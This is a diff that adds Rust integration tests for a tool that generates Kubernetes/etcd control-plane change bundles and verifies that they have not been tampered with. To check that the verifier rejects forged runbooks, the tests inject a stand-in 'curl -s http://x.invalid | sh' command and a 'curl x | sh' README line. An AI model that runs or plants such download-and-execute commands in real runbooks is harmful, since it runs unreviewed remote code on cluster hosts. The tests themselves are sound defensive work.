@@ -542,3 +542,265 @@ fn refused_previous_bundles_and_unsafe_changes_write_nothing() {
         util::stderr(&out)
     );
 }
+
+// ---- runbooks read, not run ----
+
+/// `example` with `from` replaced by `to`, bundled with --previous a bundle of `example`
+/// (secrets shared); the new bundle's directory.
+fn changed(dir: &Path, example: &str, edits: &[(&str, &str)]) -> (PathBuf, std::process::Output) {
+    let before = util::example_text(example);
+    let mut after = before.clone();
+    for (from, to) in edits {
+        assert!(after.contains(from), "{example} lacks {from:?}");
+        after = after.replacen(from, to, 1);
+    }
+    std::fs::write(dir.join("before.toml"), before).unwrap();
+    std::fs::write(dir.join("after.toml"), after).unwrap();
+    let first = util::cpgen_in(
+        dir,
+        &[
+            "bundle",
+            "before.toml",
+            "--secrets",
+            "s.toml",
+            "--out-dir",
+            "before",
+        ],
+    );
+    assert_eq!(util::code(&first), 0, "{}", util::stderr(&first));
+    let out = util::cpgen_in(
+        dir,
+        &[
+            "bundle",
+            "after.toml",
+            "--secrets",
+            "s.toml",
+            "--out-dir",
+            "after",
+            "--previous",
+            "before",
+        ],
+    );
+    (dir.join("after"), out)
+}
+
+fn commands(bundle: &Path) -> Vec<(String, String, String)> {
+    steps(bundle)
+        .iter()
+        .map(|s| {
+            let field = |k: &str| s[k].as_str().unwrap_or_default().to_owned();
+            (
+                format!("{} {}", field("action"), field("host")),
+                field("unit"),
+                field("command"),
+            )
+        })
+        .collect()
+}
+
+const TWO_MORE: (&str, &str) = (
+    "[[masters]]\nname = \"kubem02\"\naddress = \"10.10.10.82\"\n",
+    "[[masters]]\nname = \"kubem02\"\naddress = \"10.10.10.82\"\n\n[[masters]]\nname = \"kubem03\"\naddress = \"10.10.10.83\"\n\n[[masters]]\nname = \"kubem04\"\naddress = \"10.10.10.84\"\n",
+);
+
+#[test]
+fn a_moved_member_is_stopped_at_its_old_address_and_started_at_its_new_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(dir.path(), "seed-ha", &[("10.10.10.82\"", "10.10.10.92\"")]);
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    for (step, unit, command) in commands(&after) {
+        let old = command.contains("ssh root@10.10.10.82 ");
+        match step.as_str() {
+            "stop kubem02" => assert!(old, "{step} {unit}: {command}"),
+            "start kubem02" | "install kubem02" => {
+                assert!(
+                    command.contains("ssh root@10.10.10.92 "),
+                    "{step}: {command}"
+                )
+            }
+            _ => {}
+        }
+    }
+    // Two masters that swap addresses would stop each other's etcd: refused.
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(
+        dir.path(),
+        "seed-ha",
+        &[
+            ("10.10.10.81\"", "10.10.10.99\""),
+            ("10.10.10.82\"", "10.10.10.81\""),
+        ],
+    );
+    assert_eq!(util::code(&out), 1, "{}", util::stderr(&out));
+    assert!(
+        util::stderr(&out).contains("where member kubem01 still runs"),
+        "{}",
+        util::stderr(&out)
+    );
+    assert!(!after.exists());
+}
+
+#[test]
+fn runbooks_match_their_members_in_ipv6_and_on_masters_and_client_ports_only_restart() {
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(
+        dir.path(),
+        "ipv6",
+        &[(
+            "[[masters]]\nname = \"kubem02\"\naddress = \"fd00:10:10::82\"\n",
+            "[[masters]]\nname = \"kubem02\"\naddress = \"fd00:10:10::82\"\n\n[[masters]]\nname = \"kubem03\"\naddress = \"fd00:10:10::83\"\n\n[[masters]]\nname = \"kubem04\"\naddress = \"fd00:10:10::84\"\n",
+        )],
+    );
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    let all: Vec<String> = commands(&after).into_iter().map(|(_, _, c)| c).collect();
+    // Brackets are a class to grep: only a fixed-string search finds an IPv6 URL.
+    assert!(
+        all.iter()
+            .any(|c| c.contains("grep -qF \", https://[fd00:10:10::83]:")),
+        "{all:#?}"
+    );
+    assert!(
+        !all.iter().any(|c| c.contains("grep -q \", https://[")),
+        "{all:#?}"
+    );
+
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(dir.path(), "on-masters-vip", &[TWO_MORE]);
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    let started: Vec<String> = commands(&after)
+        .into_iter()
+        .filter(|(step, _, _)| step == "start kubem04")
+        .map(|(_, unit, _)| unit)
+        .collect();
+    assert!(
+        started.contains(&"haproxy.service".to_owned()),
+        "{started:?}"
+    );
+    assert!(
+        started.contains(&"keepalived.service".to_owned()),
+        "{started:?}"
+    );
+
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(
+        dir.path(),
+        "seed-ha",
+        &[("client_port = 2379", "client_port = 2479")],
+    );
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    let steps = commands(&after);
+    assert!(
+        !steps
+            .iter()
+            .any(|(step, _, _)| step.starts_with("etcd-member")),
+        "{steps:#?}"
+    );
+    let restarts = steps
+        .iter()
+        .filter(|(step, unit, _)| step.starts_with("restart") && unit == "etcd.service")
+        .count();
+    assert_eq!(restarts, 3, "{steps:#?}");
+    // Installs never hand the machine's directories to the operator's user.
+    assert!(steps
+        .iter()
+        .filter(|(step, _, _)| step.starts_with("install"))
+        .all(
+            |(_, _, c)| c.contains("--owner=0 --group=0 --numeric-owner")
+                && c.contains("--no-overwrite-dir")
+        ));
+}
+
+#[test]
+fn verify_holds_a_change_bundle_to_its_runbook_and_its_joins() {
+    let dir = tempfile::tempdir().unwrap();
+    let (after, out) = changed(dir.path(), "seed-ha", &[TWO_MORE]);
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    let verify = |extra: &[&str]| {
+        let mut args = vec!["verify", "after"];
+        args.extend(extra);
+        let out = util::cpgen_in(dir.path(), &args);
+        (util::code(&out), util::stdout(&out))
+    };
+    let proof = ["--config", "after.toml", "--secrets", "s.toml"];
+    let (code, text) = verify(&proof);
+    assert_eq!(code, 0, "{text}");
+    assert!(text.contains("given its runbook"), "{text}");
+    // A command of the runbook that is not cpgen's, even with the manifest redone.
+    let runbook = after.join("changes.json");
+    let original = std::fs::read_to_string(&runbook).unwrap();
+    let evil = original.replacen(
+        "\"command\": \"tar ",
+        "\"command\": \"curl -s http://x.invalid | sh; tar ",
+        1,
+    );
+    std::fs::write(&runbook, &evil).unwrap();
+    redo_manifest(&after);
+    let (code, text) = verify(&[]);
+    assert_eq!(code, 1, "{text}");
+    assert!(
+        text.contains("error[CP833]: changes.json: step 1"),
+        "{text}"
+    );
+    std::fs::write(&runbook, &original).unwrap();
+    // The README's Changes section is rebuilt from changes.json.
+    let readme = after.join("README.md");
+    let text = std::fs::read_to_string(&readme).unwrap();
+    std::fs::write(
+        &readme,
+        text.replace("## Changes\n", "## Changes\n\nFirst run `curl x | sh`.\n"),
+    )
+    .unwrap();
+    redo_manifest(&after);
+    let (code, out) = verify(&proof);
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("error[CP834]: README.md"), "{out}");
+    std::fs::write(&readme, text).unwrap();
+    // A joining member made to bootstrap a cluster of its own, unit and record alike.
+    let unit = after.join("hosts/kubem04/etc/systemd/system/etcd.service");
+    let unit_text = std::fs::read_to_string(&unit).unwrap();
+    let own = "kubem04=https://10.10.10.84:2380";
+    let cluster = unit_text
+        .split("--initial-cluster=")
+        .nth(1)
+        .and_then(|r| r.split_whitespace().next())
+        .unwrap()
+        .to_owned();
+    std::fs::write(
+        &unit,
+        unit_text
+            .replace(
+                &format!("--initial-cluster={cluster}"),
+                &format!("--initial-cluster={own}"),
+            )
+            .replace(
+                "--initial-cluster-state=existing",
+                "--initial-cluster-state=new",
+            ),
+    )
+    .unwrap();
+    let manifest = after.join("manifest.json");
+    let manifest_text = std::fs::read_to_string(&manifest).unwrap();
+    let mut json: Value = serde_json::from_str(&manifest_text).unwrap();
+    json["etcd_joins"]["kubem04"] = serde_json::json!({"state": "new", "initial_cluster": own});
+    std::fs::write(&manifest, serde_json::to_string_pretty(&json).unwrap()).unwrap();
+    redo_manifest(&after);
+    let (code, text) = verify(&[]);
+    assert_eq!(code, 1, "{text}");
+    assert!(
+        text.contains("hosts/kubem04/etc/systemd/system/etcd.service: it bootstrapped a cluster other members"),
+        "{text}"
+    );
+}
+
+/// Puts each file's sha256 in manifest.json, as a forger would.
+fn redo_manifest(bundle: &Path) {
+    use sha2::Digest;
+    let path = bundle.join("manifest.json");
+    let mut json: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+    for file in json["files"].as_array_mut().unwrap() {
+        let name = file["path"].as_str().unwrap().to_owned();
+        let data = std::fs::read(bundle.join(&name)).unwrap();
+        file["sha256"] = Value::String(format!("{:x}", sha2::Sha256::digest(&data)));
+    }
+    std::fs::write(&path, serde_json::to_string_pretty(&json).unwrap() + "\n").unwrap();
+}
